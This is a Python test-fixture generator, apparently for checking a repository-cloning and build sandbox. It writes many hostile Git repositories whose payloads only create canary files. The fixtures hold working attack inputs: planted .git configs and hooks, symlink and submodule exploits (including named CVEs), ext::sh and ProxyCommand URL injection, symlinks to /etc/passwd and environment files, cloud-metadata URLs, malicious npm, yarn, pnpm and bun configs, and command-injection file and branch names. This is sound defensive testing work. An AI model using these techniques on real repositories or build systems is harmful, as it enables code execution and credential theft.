"""Writes hostile repositories: usage: repositories.py DIRECTORY CANARY [PORT]

Each is a bare repository DIRECTORY/NAME.git for `git daemon`; a line "NAME STAGE WORD" each to stdout.
STAGE is "clone" (its weapon is Git: nothing of it may run at all) or "build" (its weapon is what package
managers and build tools read: what it runs must stay in the sandbox). Whatever runs makes files at
CANARY, whose folder exists on the host alone, and prints WORD."""

import hashlib
import itertools
import json
import os
import sys
import zlib

directory, canary = sys.argv[1], sys.argv[2]
port = sys.argv[3] if len(sys.argv) > 3 else "9"
FILE, PROGRAM, LINK, TREE, MODULE = "100644", "100755", "120000", "40000", "160000"


def payload(name):
    """A shell command that shows that it ran: outside by the file, inside by the word."""
    return f"touch {canary}/{name}; echo ran-{name} >&2; echo ran-{name}"


class Repository:
    """Objects written by hand: Git itself refuses to make most of these."""

    def __init__(self, name):
        self.path = f"{directory}/{name}.git"
        for folder in ("objects", "refs/heads"):
            os.makedirs(f"{self.path}/{folder}")
        with open(f"{self.path}/HEAD", "w") as file:
            file.write("ref: refs/heads/main\n")

    def object(self, kind, body):
        data = kind.encode() + b" " + str(len(body)).encode() + b"\0" + body
        digest = hashlib.sha1(data).hexdigest()
        folder = f"{self.path}/objects/{digest[:2]}"
        os.makedirs(folder, exist_ok=True)
        with open(f"{folder}/{digest[2:]}", "wb") as file:
            file.write(zlib.compress(data, 1))
        return digest

    def tree(self, entries):
        """entries: (mode, name, bytes | entries | digest), in the order given."""
        body = b""
        for mode, name, content in entries:
            if mode == TREE:
                digest = self.tree(content)
            elif mode == MODULE:
                digest = content
            else:
                digest = self.object("blob", content.encode() if isinstance(content, str) else content)
            name = name.encode() if isinstance(name, str) else name
            body += mode.encode() + b" " + name + b"\0" + bytes.fromhex(digest)
        return self.object("tree", body)

    def commit(self, entries, author="A <a@example.org>", message="x\n", head="main"):
        tree = self.tree(entries)
        who = f"{author} 1700000000 +0000"
        digest = self.object("commit", f"tree {tree}\nauthor {who}\ncommitter {who}\n\n{message}".encode())
        with open(f"{self.path}/refs/heads/{head}", "w") as file:
            file.write(digest + "\n")
        return digest


made = []


def add(name, entries, stage="clone", **more):
    repository = Repository(name)
    plain = [(FILE, "index.html", "page")]
    names = [entry[1] for entry in entries]
    repository.commit((plain if "index.html" not in names else []) + entries, **more)
    made.append((name, stage))
    return repository


def git_folders():
    """A .git inside the tree, by every name that some file system takes for it."""
    config = "[core]\n\tfsmonitor = {0}\n\thooksPath = hooks\n\tsshCommand = {0}\n\teditor = {0}\n" \
             "[alias]\n\tst = !{0}\n[filter \"x\"]\n\tsmudge = {0}\n\tclean = {0}\n"
    names = [".git", ".GIT", ".Git", "git~1", "GIT~1", ".git ", ".git.", ".git::$INDEX_ALLOCATION",
             ".g\u200cit", ".gi\u200dt", "\u206a.git", ".git\\", ".git\ufeff", ".gi\u0131t"]
    for number, git in enumerate(names):
        name = f"git-folder-{number}"
        run = payload(name)
        hook = [(PROGRAM, "post-checkout", f"#!/bin/sh\n{run}\n")]
        add(name, [(TREE, git, [(FILE, "config", config.format(f"sh -c '{run}'")),
                                (FILE, "HEAD", "ref: refs/heads/main\n"), (TREE, "hooks", hook)])])
    for number, (mode, content) in enumerate(
            [(FILE, "gitdir: /src/git\n"), (FILE, "gitdir: ../evil\n"), (LINK, "/src/git"),
             (LINK, "../git"), (LINK, "modules/x"), (LINK, "/tmp/berth"), (PROGRAM, "#!/bin/sh\n")]):
        add(f"git-file-{number}", [(mode, ".git", content)])
    for number, name in enumerate(["..", ".", "", "/etc", "a/b", "../../git/hooks/post-checkout",
                                   "a/../../git/config", "C:", "con", "aux.txt"]):
        word = f"path-{number}"
        add(word, [(PROGRAM, name, f"#!/bin/sh\n{payload(word)}\n")])
    for number, name in enumerate(["..", ".git", "."]):
        word = f"path-folder-{number}"
        add(word, [(TREE, name, [(PROGRAM, "post-checkout", f"#!/bin/sh\n{payload(word)}\n")])])


def links():
    """A link first, then a file whose path goes through it (CVE-2021-21300, CVE-2024-32002)."""
    for number, (target, way) in enumerate(itertools.product(
            ["/src/git/hooks", "../git/hooks", ".git/hooks", "/tmp/berth/secret"],
            ["a", "A", "\u00e0", "a\u0300"])):
        name = f"link-{number}"
        add(name, [(LINK, "a", target),
                   (TREE, way, [(PROGRAM, "post-checkout", f"#!/bin/sh\n{payload(name)}\n")])])
    for number, target in enumerate(["/etc/passwd", "/proc/self/environ", "../facts", "/src/git/config",
                                     "/tmp/berth/secret/token", "package.json", "/dev/zero", "."]):
        add(f"link-read-{number}", [(LINK, "package.json", target), (LINK, ".npmrc", target),
                                    (LINK, "netlify.toml", target)])
    for number, target in enumerate(["/", "/etc", "..", "../git", "/proc/self/root"]):
        add(f"link-root-{number}", [(LINK, "apps", target), (LINK, "web", target)])


def submodules():
    run = payload("{0}")
    urls = ["ext::sh -c '{1}'", "file:///etc", "/src/git", "../git", "-u./payload", "--upload-pack=sh",
            "ssh://-oProxyCommand=sh/x", "git@-oProxyCommand=sh:x", f"http://127.0.0.1:{port}/x.git",
            "http://169.254.169.254/", "fd::3", "testgit::/tmp", "./.", "../../..", "\"; sh payload; \""]
    for number, url in enumerate(urls):
        name = f"submodule-{number}"
        text = f"[submodule \"x\"]\n\tpath = x\n\turl = {url.format(name, run.format(name))}\n"
        add(name, [(FILE, ".gitmodules", text), (PROGRAM, "payload", f"#!/bin/sh\n{run.format(name)}\n"),
                   (MODULE, "x", "1" * 40)])
    names = ["../../hooks", "..", "x/../../hooks", ".git", "-x", "x\r", "x\\ny", "x\" ; \""]
    for number, inner in enumerate(names):
        name = f"submodule-name-{number}"
        text = f"[submodule \"{inner}\"]\n\tpath = x\n\turl = ./x\n\tupdate = !sh payload\n" \
               "\tfetchRecurseSubmodules = true\n\tignore = all\n"
        add(name, [(FILE, ".gitmodules", text), (PROGRAM, "payload", f"#!/bin/sh\n{payload(name)}\n"),
                   (MODULE, "x", "1" * 40)])
    # A path that ends in a carriage return, a link of that name beside it (CVE-2025-48384).
    for number, path in enumerate(["sub\r", "sub\n", "sub\t", " sub", "sub "]):
        name = f"submodule-path-{number}"
        add(name, [(FILE, ".gitmodules", f"[submodule \"s\"]\n\tpath = \"{path}\"\n\turl = ./s\n"),
                   (MODULE, path, "1" * 40), (LINK, "sub", ".git/modules/s/hooks"),
                   (PROGRAM, "post-checkout", f"#!/bin/sh\n{payload(name)}\n")])
    add("submodule-link", [(LINK, ".gitmodules", "/etc/passwd")])


def attributes():
    drivers = ["filter=lfs", "filter=x diff=x merge=x", "ident", "export-subst", "text eol=crlf",
               "working-tree-encoding=UTF-16", "working-tree-encoding=x", "merge=union -diff",
               "filter=x -text", "a" * 3000 + "=x"]
    for number, driver in enumerate(drivers):
        name = f"attributes-{number}"
        run = payload(name)
        add(name, [(FILE, ".gitattributes", f"* {driver}\n[attr]all {driver}\n"),
                   (FILE, ".lfsconfig", f"[lfs]\n\turl = http://127.0.0.1:{port}/\n[lfs \"customtransfer.x\"]"
                                        f"\n\tpath = sh\n\targs = -c '{run}'\n"),
                   (FILE, ".gitconfig", f"[filter \"x\"]\n\tsmudge = sh -c '{run}'\n"),
                   (FILE, "big.bin", "version https://git-lfs.github.com/spec/v1\noid sha256:" +
                    "0" * 64 + "\nsize 10\n")])


def names():
    odd = ["-rf", "--upload-pack=sh", "-c", "$(touch x)", "`id`", "a\nb", "a\rb", "a\tb", "\x1b[2J",
           "\x01\x02", b"\xff\xfe", b"\xc0\xaf", " ", "*", "?", "~", "~root", "%2e%2e", "&&", "|sh", ">x",
           "'", '"', "\\", "a" * 255, "package.json\n", "a\u202eb", "\ufeffx", "CON", "nul.html"]
    for number, name in enumerate(odd):
        add(f"name-{number}", [(FILE, name, "x"), (TREE, "t", [(FILE, name, "y")])])
    for number, author in enumerate(["A\x1b[2J <a@b>", "\n\ncommit x <a@b>", "$(id) <-x>", "A" * 5000 + " <a>",
                                     "<script>alert(1)</script> <a@b>"]):
        add(f"author-{number}", [(FILE, "x", "x")], author=author.replace("\n", " "),
            message="\x1b]0;owned\a\nroot_exists 1\nbranch evil\n" * 3)
    deep = [(FILE, "end", "x")]
    for _ in range(200):
        deep = [(TREE, "d" * 20, deep)]
    add("deep", deep)
    add("case", [(FILE, "README", "1"), (FILE, "Readme", "2"), (FILE, "readme", "3")])
    add("wide", [(FILE, f"f{n:05}", "") for n in range(6000)])


def heads():
    """Names of branches and what HEAD says."""
    for number, head in enumerate(["-x", "--upload-pack=sh", "a'b", "$(id)", "a;b", "@{-1}", "a b"]):
        repository = Repository(f"head-{number}")
        digest = repository.commit([(FILE, "index.html", "x")])
        with open(f"{repository.path}/packed-refs", "w") as file:
            file.write(f"{digest} refs/heads/{head}\n")
        with open(f"{repository.path}/HEAD", "w") as file:
            file.write(f"ref: refs/heads/{head}\n")
        made.append((f"head-{number}", "clone"))
    alternates = Repository("alternates")
    alternates.commit([(FILE, "index.html", "x")])
    os.makedirs(f"{alternates.path}/objects/info", exist_ok=True)
    with open(f"{alternates.path}/objects/info/alternates", "w") as file:
        file.write("/etc\n../../../../etc\n\"/src/git/objects\"\n")
    made.append(("alternates", "clone"))


def build_tools():
    """What package managers and tools read: it runs, inside."""
    def package(name, **more):
        scripts = more.pop("scripts", {"build": "mkdir -p dist && echo ok >dist/index.html"})
        return json.dumps({"name": name, "version": "1.0.0", "scripts": scripts, **more})

    for number, rc in enumerate([
            "script-shell=./payload", "git=./payload", "shell=./payload", "node-options=--require ./payload.js",
            f"registry=http://127.0.0.1:{port}/", "registry=http://169.254.169.254/", "prefix=/usr",
            "cache=/etc/x", "userconfig=/etc/x", "init-module=./payload.js", "onload-script=./payload.js",
            "editor=./payload", "viewer=./payload", "cafile=/etc/shadow", "ignore-scripts=false\nunsafe-perm=true"]):
        name = f"npmrc-{number}"
        add(name, [(FILE, ".npmrc", rc + "\n"), (FILE, "package.json", package(name)),
                   (PROGRAM, "payload", f"#!/bin/sh\n{payload(name)}\nexec sh \"$@\"\n"),
                   (FILE, "payload.js", f"require('child_process').execSync({payload(name)!r})\n")], "build")
    for number, key in enumerate(["preinstall", "install", "postinstall", "prepare", "prepublish", "prebuild",
                                  "build", "postbuild", "preprepare", "dependencies"]):
        name = f"script-{number}"
        scripts = {"build": "mkdir -p dist && echo ok >dist/index.html"}
        scripts[key] = payload(name) + "; mkdir -p dist; echo ok >dist/index.html"
        add(name, [(FILE, "package.json", package(name, scripts=scripts))], "build")
    for number, bad in enumerate(["../../../etc/x", "-x", "$(id)", "a; id", "x\u0000y", "\u001b[2J", "A" * 5000, ""]):
        add(f"package-name-{number}", [(FILE, "package.json", package(bad))], "build")
    for number, manager in enumerate(["npm@10.0.0;id", "npm@../../x", "yarn@file:./payload", "-x@1",
                                      "pnpm@http://127.0.0.1/x.tgz", "berth@1", "npm@99999999", "bun@$(id)"]):
        add(f"manager-{number}", [(FILE, "package.json", package("x", packageManager=manager))], "build")
    for number, node in enumerate(["$(id)", "../../../bin/sh", "-x", "file:./payload", "9" * 400, "lts/*; id"]):
        add(f"node-{number}", [(FILE, ".nvmrc", node + "\n"), (FILE, "package.json", package("x"))], "build")
    run = payload("yarn-path")
    add("yarn-path", [(FILE, ".yarnrc.yml", "yarnPath: ./payload.cjs\nenableScripts: true\nplugins:\n  - ./payload.cjs\n"),
                      (FILE, "yarn.lock", "__metadata:\n  version: 8\n"), (FILE, "package.json", package("y")),
                      (FILE, "payload.cjs", f"require('child_process').execSync({run!r})\n")], "build")
    add("yarnrc", [(FILE, ".yarnrc", "yarn-path \"./payload.js\"\nscript-shell \"./payload\"\n"),
                   (FILE, "yarn.lock", "# yarn lockfile v1\n"), (FILE, "package.json", package("y")),
                   (FILE, "payload.js", f"require('child_process').execSync({payload('yarnrc')!r})\n")], "build")
    add("pnpmfile", [(FILE, ".pnpmfile.cjs", f"require('child_process').execSync({payload('pnpmfile')!r})\n"),
                     (FILE, "pnpm-lock.yaml", "lockfileVersion: '9.0'\n"), (FILE, "package.json", package("p"))], "build")
    add("bunfig", [(FILE, "bunfig.toml", "preload = [\"./payload.js\"]\n[run]\nshell = \"system\"\n"),
                   (FILE, "bun.lock", "{}"), (FILE, "package.json", package("b")),
                   (FILE, "payload.js", f"require('child_process').execSync({payload('bunfig')!r})\n")], "build")
    add("shadow", [(TREE, "node_modules", [(TREE, ".bin", [
        (PROGRAM, tool, f"#!/bin/sh\n{payload('shadow')}\n")
        for tool in ("node", "npm", "sh", "tar", "vite")])]),
        (FILE, "package.json", package("s", scripts={"build": "node -v; mkdir dist; echo ok >dist/index.html"}))], "build")


for part in (git_folders, links, submodules, attributes, names, heads, build_tools):
    part()
for name, stage in made:
    print(name, stage, f"ran-{name}")
